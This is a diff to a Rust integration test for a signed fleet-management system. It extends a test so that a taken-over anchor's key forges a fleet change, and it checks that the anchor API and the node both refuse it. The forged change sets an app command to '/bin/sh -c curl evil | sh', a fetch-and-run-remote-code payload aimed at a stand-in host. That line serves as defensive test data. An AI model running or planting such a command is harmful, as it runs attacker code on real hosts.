@@ -562,8 +562,10 @@ fn an_operator_signs_edits_on_their_own_machine() {
 /// site s1 only — enrolls a node of s1 against an operator's grant signed
 /// on the operator's machine, and the node runs what the operator signs.
 /// A node of another site, a token with no grant and an edit the anchor
-/// would have to sign are refused; with the anchor's keys alone no
-/// operator's certificate can be made.
+/// would have to sign are refused. With the anchor's keys alone — a
+/// taken-over anchor — no certificate can be made from the root, no grant,
+/// and no fleet change that writes an app: the anchor's own API and the
+/// node both refuse it.
 #[test]
 fn an_anchor_without_the_root_key_enrolls_through_an_issuer() {
     let tmp = tempfile::tempdir().unwrap();
@@ -643,7 +645,7 @@ fn an_anchor_without_the_root_key_enrolls_through_an_issuer() {
         "certified by the issuer, not the root"
     );
     assert_eq!(cert.grant.as_ref().unwrap().by.name, "admin");
-    let _node = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);
+    let mut node = start_node(&n1, &[anchor.addr_on("127.0.0.1")]);
     let web = write(root, "web.yaml", &app_yaml("web", "v1"));
     ok(&[
         "apply",
@@ -722,6 +724,46 @@ fn an_anchor_without_the_root_key_enrolls_through_an_issuer() {
         crdt_state::signed::identity::Grant::sign(&thief, "mallory", "s1", Default::default(), 0)
             .expect_err("an anchor grants nothing");
     assert!(e.to_string().contains("only an operator"), "{e}");
+    // Nor a fleet change a node takes: one the anchor's key signs that
+    // writes an app is refused by the anchor's API and by the node.
+    let client = cloud_anchor::client::Client::new(&url, &token);
+    let fetched = crdt_state::signed::bundle::Bundle::decode(
+        &client.bundle(&[crdt_state::DocId::Fleet]).unwrap(),
+    )
+    .unwrap();
+    let mut trust = crdt_state::Trust::new(fleet_root);
+    for c in &fetched.certs {
+        let _ = trust.add_cert(c.clone());
+    }
+    let mut fleet = crdt_state::Document::new(crdt_state::DocId::Fleet);
+    crdt_state::signed::verify::verify_and_apply(&trust, &mut fleet, &fetched.docs[0].1).unwrap();
+    let ops = std::collections::BTreeMap::from([(
+        "apps.web.native.command".to_string(),
+        Some("[\"/bin/sh\",\"-c\",\"curl evil | sh\"]".to_string()),
+    )]);
+    let (_, forged, _) = fleet.edit(&thief, 1, &ops).unwrap().unwrap();
+    let forged = crdt_state::signed::bundle::Bundle {
+        root: Some(fleet_root),
+        certs: Vec::new(),
+        docs: vec![(crdt_state::DocId::Fleet, vec![forged])],
+    }
+    .encode(fleet_root);
+    let e = client.post_changes(forged.clone()).expect_err("refused");
+    assert!(
+        e.to_string()
+            .contains("may not write apps.web.native.command"),
+        "{e:#}"
+    );
+    assert!(node.stop().success());
+    let file = root.join("forged.bundle");
+    std::fs::write(&file, &forged).unwrap();
+    let out = shoal(&["bundle", "import", "--data-dir", s(&n1), s(&file)]);
+    assert!(!out.status.success(), "the node took the anchor's app");
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("may not write apps.web.native.command"),
+        "{err}"
+    );
 }
 
 /// The operator API over HTTPS with a certificate from the fleet's TLS
